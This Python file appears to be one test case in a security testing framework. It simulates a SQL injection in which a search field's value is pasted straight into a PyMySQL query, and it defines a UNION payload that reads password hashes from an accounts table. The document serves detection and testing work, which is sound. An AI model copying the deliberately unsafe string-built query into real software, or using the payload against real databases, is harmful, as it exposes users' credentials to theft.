"""F1: an injected UNION reads passwords out of another table."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.protocols.tables import LOOT
from backwatch.attack.techniques.abused import AbusedPyMySQL, told


class UnionInjected(AbusedPyMySQL):
    """On PyMySQL: a page that writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads a table of passwords through a UNION that a search field let in"
    reference = "https://owasp.org/www-community/attacks/SQL_Injection"
    rule = "query-attack"

    def work(self) -> None:
        """Searches for ordinary names."""
        for name in ("customer 1", "customer 2"):
            self._search(name)

    def meet(self) -> object:
        """Searches for what the attacker typed."""
        return self._search("nobody' UNION SELECT id, name, password FROM accounts WHERE id < 5 -- ")

    def _search(self, name: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(f"SELECT id, customer, total FROM orders WHERE customer = '{name}' ORDER BY id")  # the hole
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """A password hash came back."""
        del service
        return LOOT in str(got)
